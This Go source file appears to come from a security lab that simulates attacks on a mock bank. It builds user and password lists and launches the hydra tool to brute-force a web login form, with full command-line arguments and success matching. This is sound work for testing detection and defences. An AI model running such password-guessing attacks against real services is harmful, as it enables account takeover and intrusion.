package attack

import (
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strings"

	"offpath/cmd/lab/internal/bank"
	"offpath/cmd/lab/internal/child"
	"offpath/cmd/lab/internal/software"
)

// Hydra says how hydra attacks: password guessing against the web form.
type Hydra struct {
	Directory bank.Directory
	Target    netip.AddrPort
	TLS       bool
	Dir       string // folder for its lists
	Namespace string
}

const (
	hydraTasks  = 4    // connections at a time, each with one try a second
	hydraUsers  = 200  // names on its list
	hydraGuess  = 2000 // passwords on its list: a day of work at its pace
	hydraPeriod = "1"  // seconds between the tries of a connection
)

// Start starts hydra.
func (h Hydra) Start(nursery *child.Nursery) (*child.Child, error) {
	var users, passwords strings.Builder
	for n := range hydraUsers {
		fmt.Fprintln(&users, h.Directory.Customer(n*19%h.Directory.Customers).User)
	}
	for n := range hydraGuess {
		fmt.Fprintln(&passwords, bank.Secret("guess", n))
	}
	dir := filepath.Join(h.Dir, "hydra")
	if err := os.Mkdir(dir, 0o755); err != nil {
		return nil, err
	}
	for name, text := range map[string]string{"users": users.String(), "passwords": passwords.String()} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			return nil, err
		}
	}
	service := "http-post-form"
	if h.TLS {
		service = "https-post-form"
	}
	return nursery.Start(child.Spec{
		Name: "hydra", Namespace: h.Namespace, Path: "hydra", Dir: dir,
		Args: []string{"-I", "-q", "-u", "-L", "users", "-P", "passwords", "-t", fmt.Sprint(hydraTasks), "-W", hydraPeriod,
			"-s", fmt.Sprint(h.Target.Port()), h.Target.Addr().String(), service,
			// Success has to be recognised, not failure: a refusal must not
			// look like a right password, or hydra would be content.
			"/login:username=^USER^&password=^PASS^:H=Host\\: " + software.Hosts[bank.Web] + ":S=" + bank.Welcome},
	})
}
